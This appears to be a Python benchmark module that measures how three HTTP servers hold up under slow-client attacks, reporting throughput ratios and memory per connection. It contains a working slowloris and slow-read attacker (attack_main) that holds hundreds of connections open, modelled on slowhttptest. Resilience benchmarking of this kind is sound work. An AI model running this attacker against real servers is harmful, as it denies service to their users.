"""The slow-clients cell (issue 14): healthy keep-alive clients while slow clients attack.

For each of three HTTP servers side by side -- reactor ``ThreadPool(8)`` hosting the stdlib's
unmodified ``SimpleHTTPRequestHandler`` (bench/servers.py), the stdlib's ``ThreadingHTTPServer``
(a thread per connection, same handler) and waitress with 8 threads (a minimal WSGI app serving
the same files) -- the cell measures:

1. the load generator's ``http`` mode (50 keep-alive connections, GETs of the 1 KiB file, a probe
   every 100 ms) alone: req/s **unattacked**;
2. the same while ``attackers`` slowloris connections (600) are held open: req/s **attacked**,
   and the server's RSS growth per slowloris connection;
3. ``attackers`` slow readers of a 256 KiB reply: the server's RSS growth per slow reader.

``attacked / unattacked`` is the figure; the target is >= 0.8 for reactor, and reactor's attacked
rate above waitress's.

The attacker is this file run as ``python bench/slowclients.py attack ...``, a single-threaded
Python process shaped like slowhttptest: it opens its connections at 200 a second; a slowloris
connection sends a request line and one header line, then another header line every 5 s, never
the blank line (slowhttptest ``-H -i 5``); a slow reader has a 4 KiB receive buffer, asks for the
256 KiB file on a keep-alive connection and reads 32 bytes a second (``-X -w .. -y .. -z 32 -n 1``).
It is used instead of slowhttptest because the cell must know when every connection is open
(``HOLDING <n>``) and keep them exactly for the measured run; tests/test_slow_clients.py runs
slowhttptest itself against the reactor. Connections are opened after the unattacked run and
closed after the attacked one (the reactor's ``request_head_timeout``, 10 s, would otherwise end
them mid-run: a run is capped at 5 s after a 3 s ramp).

``python bench/slowclients.py waitress --docroot DIR --address HOST:PORT`` is the waitress
server (``READY <address>`` once listening; SIGTERM stops it).
"""

from __future__ import annotations

import argparse
import contextlib
import json
import os
import resource
import select
import signal
import socket
import subprocess
import sys
import time
from collections.abc import Iterable, Iterator
from pathlib import Path
from typing import Any

import procs
from plan import FD_SLACK, HTTP_FILE, Workload
from procs import BenchError

#: The servers, in report order: (name, label). The first two are bench/servers.py contenders.
SERVERS = [("reactor-threadpool", "reactor ThreadPool(8)"),
           ("stdlib-threading", "stdlib ThreadingHTTPServer"),
           ("waitress", "waitress (8 threads)")]
#: The cell's row in the results: the one contender that runs it (the others are n/a).
CONTENDER = "reactor-threadpool"
WAITRESS_THREADS = 8
#: Attackers open this many connections a second (slowhttptest's -r 200).
CONNECT_RATE = 200
#: A slowloris connection sends a header line every this many seconds (slowhttptest -i 5).
SLOWLORIS_INTERVAL_S = 5.0
#: A slow reader: receive buffer, bytes per read, seconds between reads (-z 32 -n 1).
READER_RCVBUF = 4096
READER_CHUNK = 32
READER_INTERVAL_S = 1.0
#: The reply the slow readers ask for, written into the docroot by the cell.
SLOW_FILE = "slow-256k.bin"
SLOW_FILE_SIZE = 256 * 1024
#: The issue's targets: reactor keeps this share of its unattacked rate, and beats waitress attacked.
KEEP_TARGET = 0.8
TARGET_SERVER = "reactor ThreadPool(8)"
VERSUS_SERVER = "waitress (8 threads)"
#: Run length: 2 x --duration, at least 1 s, at most 5 s (see the module docstring).
MIN_RUN_S = 1.0
MAX_RUN_S = 5.0
KIB = 1024


# -- the cell ----------------------------------------------------------------------------


def run_cell(session: Any, workload: Workload) -> dict[str, Any]:
    """Every server of SERVERS, one after the other, on the server CPUs (``session`` is run.Session)."""
    docroot = session.docroot()
    if not (docroot / SLOW_FILE).exists():
        pattern = bytes(range(256))
        (docroot / SLOW_FILE).write_bytes(pattern * (SLOW_FILE_SIZE // 256))
    run_s = min(max(2 * session.args.duration, MIN_RUN_S), MAX_RUN_S)
    load = Workload(workload.name, "http", "http", workload.transport, workload.concurrency, handler="http",
                    requests=0, limit_s=run_s)
    rows = []
    for name, label in SERVERS:
        row: dict[str, Any] = {"server": label}
        if name == "waitress" and not waitress_available():
            row.update(status="n/a", reason="waitress is not installed (pip install -e '.[bench]')")
        else:
            try:
                row.update(one_server(session, name, load, workload.attackers, docroot))
                row["status"] = "ok"
            except BenchError as exc:
                row.update(status="failed", reason=str(exc))
        rows.append(row)
    return {"servers": rows, "summary": summarise(rows, workload.attackers, run_s)}


def waitress_available() -> bool:
    try:
        import waitress  # noqa: F401
    except ImportError:
        return False
    return True


def one_server(session: Any, name: str, load: Workload, attackers: int, docroot: Path) -> dict[str, Any]:
    cpus = session.placement(load).server
    with contextlib.ExitStack() as stack:
        if name == "waitress":
            pid, address = stack.enter_context(waitress_server(session, docroot, cpus))
        else:
            pid, address = stack.enter_context(session.server(name, load, cpus))
        procs.wait_until_settled(pid, 1)
        unattacked = session.measure(pid, address, load)
        members = procs.tree(pid)
        base_rss, base_fds = procs.rss_bytes(members), procs.fd_count(members)
        with attack(session, load, address, "slowloris", "/" + HTTP_FILE, attackers) as held:
            fds_held = wait_for_descriptors(pid, base_fds + held) - base_fds
            rss_slowloris = settled_rss(pid)
            attacked = session.measure(pid, address, load)
        procs.wait_until_fds_at_most(pid, base_fds + FD_SLACK, timeout=60)
        base_readers = procs.rss_bytes(procs.tree(pid))
        with attack(session, load, address, "slowread", "/" + SLOW_FILE, attackers) as readers:
            wait_for_descriptors(pid, base_fds + readers)
            # The replies are written as far as the readers' windows and the buffers let them.
            rss_readers = settled_rss(pid)
        procs.wait_until_fds_at_most(pid, base_fds + FD_SLACK, timeout=60)
    return {"unattacked": unattacked, "attacked": attacked,
            "slowloris_held": held, "slowloris_fds": fds_held,
            "base_rss": base_rss, "rss_slowloris": rss_slowloris,
            "readers_held": readers, "base_rss_readers": base_readers, "rss_readers": rss_readers}


def wait_for_descriptors(pid: int, count: int, timeout: float = 10.0) -> int:
    """Wait (at most ``timeout``) until the server tree has ``count`` descriptors open; return the count
    (connections the server has not accepted yet are still in its backlog)."""
    deadline = time.monotonic() + timeout
    while (fds := procs.fd_count(procs.tree(pid))) < count and time.monotonic() < deadline:
        time.sleep(0.05)  # sampling /proc: nothing to wait on
    return fds


def settled_rss(pid: int, timeout: float = 10.0, interval: float = 0.3) -> int:
    """The server tree's RSS once two samples ``interval`` apart differ by less than 1 % (or after ``timeout``)."""
    deadline = time.monotonic() + timeout
    previous = procs.rss_bytes(procs.tree(pid))
    while time.monotonic() < deadline:
        time.sleep(interval)  # sampling /proc: nothing to wait on
        rss = procs.rss_bytes(procs.tree(pid))
        if abs(rss - previous) < previous / 100:
            return rss
        previous = rss
    return previous


@contextlib.contextmanager
def waitress_server(session: Any, docroot: Path, cpus: frozenset[int]) -> Iterator[tuple[int, str]]:
    command = [sys.executable, str(Path(__file__).resolve()), "waitress", "--docroot", str(docroot),
               "--address", "127.0.0.1:0"]
    server = procs.spawn(command, cpus, session.log("waitress"))
    try:
        bound = server.expect("READY ", 30)
        yield server.proc.pid, bound
    finally:
        status = procs.stop_process(server.proc)
        if status != 0:
            raise BenchError(f"waitress exited with {status}{server.stderr_tail()}")


@contextlib.contextmanager
def attack(session: Any, load: Workload, address: str, mode: str, path: str, connections: int) -> Iterator[int]:
    """``connections`` attackers of ``mode`` held open for the block; yields how many are connected."""
    command = [sys.executable, str(Path(__file__).resolve()), "attack", "--mode", mode, "--address", address,
               "--path", path, "--connections", str(connections)]
    attacker = procs.spawn(command, session.placement(load).client, session.log(f"attack-{mode}"),
                           stdin=subprocess.PIPE)
    try:
        held = int(attacker.expect("HOLDING ", connections / CONNECT_RATE + 60))
        yield held
    finally:
        assert attacker.proc.stdin is not None
        with contextlib.suppress(OSError):
            attacker.proc.stdin.close()  # it closes its connections and exits
        try:
            attacker.proc.wait(timeout=30)
        except subprocess.TimeoutExpired:
            procs.stop_process(attacker.proc)
        finally:
            if attacker.proc.stdout is not None:
                attacker.proc.stdout.close()


# -- figures ---------------------------------------------------------------------------------


def summarise(rows: list[dict[str, Any]], attackers: int, run_s: float) -> dict[str, Any]:
    servers = []
    for row in rows:
        if row["status"] != "ok":
            servers.append({"server": row["server"], "status": row["status"], "reason": row.get("reason", "")})
            continue
        before, during = row["unattacked"], row["attacked"]
        ratio = during["ops_per_s"] / before["ops_per_s"] if before["ops_per_s"] else None
        servers.append({
            "server": row["server"], "status": "ok",
            "unattacked_req_per_s": before["ops_per_s"], "attacked_req_per_s": during["ops_per_s"],
            "ratio": ratio,
            "attacked_errors": during["errors"], "attacked_error_kinds": during.get("error_kinds", {}),
            "attacked_probe_failures": during.get("probe_failures", 0), "attacked_probes": during.get("probes", 0),
            "attacked_probe_max_ms": _ms(during.get("probe_max_us")),
            "slowloris_held": row["slowloris_held"], "readers_held": row["readers_held"],
            "rss_per_slowloris_kib": _per_connection(row["rss_slowloris"] - row["base_rss"], row["slowloris_held"]),
            "rss_per_reader_kib": _per_connection(row["rss_readers"] - row["base_rss_readers"],
                                                  row["readers_held"]),
            "peak_rss_mb": max(before["server_peak_rss"], during["server_peak_rss"]) / KIB / KIB,
        })
    by_name = {s["server"]: s for s in servers if s["status"] == "ok"}
    target = by_name.get(TARGET_SERVER)
    versus = by_name.get(VERSUS_SERVER)
    keep = None if target is None else target["ratio"]
    beats = None
    if target is not None and versus is not None and versus["attacked_req_per_s"]:
        beats = target["attacked_req_per_s"] / versus["attacked_req_per_s"]
    return {"attackers": attackers, "run_s": run_s, "servers": servers, "keep": keep,
            "keep_met": None if keep is None else keep >= KEEP_TARGET,
            "versus_waitress": beats, "versus_waitress_met": None if beats is None else beats > 1.0}


def _per_connection(growth: int, held: int) -> float | None:
    return round(max(growth, 0) / held / KIB, 2) if held else None


def _ms(us: float | None) -> float | None:
    return None if us is None else us / 1000


def _num(value: float | None, digits: int = 0) -> str:
    return "-" if value is None else f"{value:,.{digits}f}"


def one_line(summary: dict[str, Any]) -> str:
    parts = []
    for s in summary["servers"]:
        if s["status"] != "ok":
            parts.append(f"{s['server']}: {s['status']}")
        else:
            parts.append(f"{s['server']} {_num(s['attacked_req_per_s'])}/{_num(s['unattacked_req_per_s'])} req/s "
                         f"({_num(s['ratio'], 2)})")
    return f"attacked/unattacked beside {summary['attackers']} slowloris: " + "; ".join(parts)


def headline(cells: Iterable[dict[str, Any]]) -> list[dict[str, Any]]:
    """Rows for report.headline: reactor keeps >= 0.8 of its rate, and beats waitress attacked."""
    rows: list[dict[str, Any]] = []
    for c in cells:
        if c["kind"] != "slow-clients" or c["status"] != "ok":
            continue
        s = c["summary"]
        rows.append({"what": f"{s['attackers']} slow clients (slowloris): {TARGET_SERVER} attacked / unattacked "
                             "req/s of 50 keep-alive clients", "workload": c["workload"], "ratio": None,
                     "target": None, "figure": _num(s["keep"], 2), "target_text": f">= {KEEP_TARGET}",
                     "met": s["keep_met"]})
        rows.append({"what": f"{s['attackers']} slow clients (slowloris): {TARGET_SERVER} / {VERSUS_SERVER}, "
                             "attacked req/s", "workload": c["workload"], "ratio": None, "target": None,
                     "figure": _num(s["versus_waitress"], 2), "target_text": "> 1", "met": s["versus_waitress_met"]})
    return rows


def section(group: list[dict[str, Any]]) -> list[str]:
    """The markdown section of the slow-clients workload (report.markdown)."""
    lines = [
        "Three servers side by side, one after the other on the server CPUs: reactor `ThreadPool(8)` and the "
        "stdlib's `ThreadingHTTPServer` (a thread per connection) serving `SimpleHTTPRequestHandler`, and "
        "waitress with 8 threads serving the same files from a minimal WSGI app (`connection_limit` raised "
        "above the attackers). 50 keep-alive clients (the load generator's `http` mode) run alone "
        "(unattacked), then while the attackers hold their connections open (attacked). The attackers are "
        "a Python process shaped like slowhttptest (bench/slowclients.py): 200 connections a second, "
        "slowloris sends a header line every 5 s and never ends its head; a slow reader has a 4 KiB receive "
        "buffer and reads 32 bytes a second of a 256 KiB reply. RSS per connection is the server's growth "
        "with the attackers connected over their number. Targets: reactor keeps >= "
        f"{KEEP_TARGET} of its unattacked rate, and its attacked rate beats waitress's.", ""]
    rows = []
    for c in group:
        if c["status"] == "n/a":
            continue
        if c["status"] != "ok":
            rows.append([c["contender"], f"{c['status']}: {c.get('reason', '')}"] + [""] * 8)
            continue
        for s in c["summary"]["servers"]:
            if s["status"] != "ok":
                rows.append([s["server"], f"{s['status']}: {s.get('reason', '')}"] + [""] * 8)
                continue
            kinds = s["attacked_error_kinds"]
            errors = f"{s['attacked_errors']}" + (f" ({', '.join(f'{k} {v}' for k, v in kinds.items())})"
                                                   if kinds else "")
            rows.append([s["server"], _num(s["unattacked_req_per_s"]), _num(s["attacked_req_per_s"]),
                         _num(s["ratio"], 2), errors,
                         f"{s['attacked_probe_failures']}/{s['attacked_probes']}", _num(s["attacked_probe_max_ms"]),
                         f"{s['slowloris_held']}", _num(s["rss_per_slowloris_kib"], 1),
                         f"{s['readers_held']}: {_num(s['rss_per_reader_kib'], 1)}"])
    header = ["server", "req/s unattacked", "req/s attacked", "attacked / unattacked", "errors attacked",
              "probes failed attacked", "probe max ms attacked", "slowloris held", "RSS KiB per slowloris",
              "slow readers held: RSS KiB per reader"]
    out = ["| " + " | ".join(header) + " |", "|" + "---|" * len(header)]
    out += ["| " + " | ".join(row) + " |" for row in rows]
    return lines + out


# -- the attacker ---------------------------------------------------------------------------------


def raise_fd_limit() -> None:
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft != hard:
        with contextlib.suppress(ValueError, OSError):
            resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))


def attack_main(args: argparse.Namespace) -> int:
    """Open ``--connections`` slow connections at CONNECT_RATE a second, print ``HOLDING <n>``, keep
    them slow until stdin's EOF, close them and print a JSON result line."""
    raise_fd_limit()
    host, _, port = args.address.rpartition(":")
    address = (host.strip("[]"), int(port))
    reader = args.mode == "slowread"
    head = (f"GET {args.path} HTTP/1.1\r\nHost: {args.address}\r\nUser-Agent: slowclients\r\n"
            + ("\r\n" if reader else "")).encode()
    interval = READER_INTERVAL_S if reader else SLOWLORIS_INTERVAL_S
    socks: list[socket.socket] = []
    failed = closed = sent_lines = 0
    received = 0
    started = time.monotonic()
    for n in range(args.connections):
        pause = started + n / CONNECT_RATE - time.monotonic()
        if pause > 0:
            time.sleep(pause)  # pacing the attack, as slowhttptest does
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        try:
            if reader:
                sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, READER_RCVBUF)
            sock.settimeout(10)
            sock.connect(address)
            sock.sendall(head)
            sock.setblocking(False)
        except OSError:
            failed += 1
            sock.close()
            continue
        socks.append(sock)
    print(f"HOLDING {len(socks)}", flush=True)
    alive = set(socks)
    next_tick = time.monotonic() + interval
    while True:
        ready, _, _ = select.select([sys.stdin], [], [], max(0.0, next_tick - time.monotonic()))
        if ready and not os.read(sys.stdin.fileno(), 4096):
            break
        if time.monotonic() < next_tick:
            continue
        next_tick += interval
        for sock in list(alive):
            try:
                if reader:
                    data = sock.recv(READER_CHUNK)
                    if not data:
                        raise ConnectionResetError
                    received += len(data)
                else:
                    sock.send(b"X-a%d: b\r\n" % sent_lines)
                    sent_lines += 1
            except (BlockingIOError, InterruptedError):
                pass
            except OSError:
                closed += 1
                alive.discard(sock)
    for sock in socks:
        sock.close()
    print(json.dumps({"connected": len(socks), "failed": failed, "closed_by_server": closed,
                      "header_lines": sent_lines, "received": received}), flush=True)
    return 0


# -- the waitress server ----------------------------------------------------------------------


def waitress_main(args: argparse.Namespace) -> int:
    """A minimal WSGI app serving ``--docroot``'s files on waitress with 8 threads."""
    import waitress

    raise_fd_limit()
    root = Path(args.docroot).resolve()

    def app(environ: dict[str, Any], start_response: Any) -> list[bytes]:
        path = (root / environ.get("PATH_INFO", "/").lstrip("/")).resolve()
        if path.parent != root or not path.is_file():
            start_response("404 Not Found", [("Content-Type", "text/plain"), ("Content-Length", "10")])
            return [b"not found\n"]
        body = path.read_bytes()  # read per request, as SimpleHTTPRequestHandler does
        start_response("200 OK", [("Content-Type", "application/octet-stream"),
                                  ("Content-Length", str(len(body)))])
        return [body]

    host, _, port = args.address.rpartition(":")
    # connection_limit: waitress stops accepting at 100 connections by default; the attackers and
    # the load need more. The poll() loop: select() cannot watch descriptors above 1023.
    server: Any = waitress.create_server(app, host=host, port=int(port), threads=WAITRESS_THREADS,
                                         connection_limit=4000, backlog=1024, asyncore_use_poll=True,
                                         ident="waitress")

    def stop(signum: int, frame: object) -> None:
        raise SystemExit(0)  # waitress's run() closes everything on SystemExit

    signal.signal(signal.SIGTERM, stop)
    signal.signal(signal.SIGINT, stop)
    print(f"READY {server.effective_host}:{server.effective_port}", flush=True)
    server.run()
    return 0


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0] if __doc__ else None)
    commands = parser.add_subparsers(dest="command", required=True)
    attacker = commands.add_parser("attack", help="hold slow connections open against a server")
    attacker.add_argument("--mode", choices=("slowloris", "slowread"), required=True)
    attacker.add_argument("--address", required=True, help="HOST:PORT")
    attacker.add_argument("--path", default="/")
    attacker.add_argument("--connections", type=int, default=600)
    server = commands.add_parser("waitress", help="the waitress contender")
    server.add_argument("--docroot", required=True)
    server.add_argument("--address", default="127.0.0.1:0")
    args = parser.parse_args(argv)
    return attack_main(args) if args.command == "attack" else waitress_main(args)


if __name__ == "__main__":
    sys.exit(main())
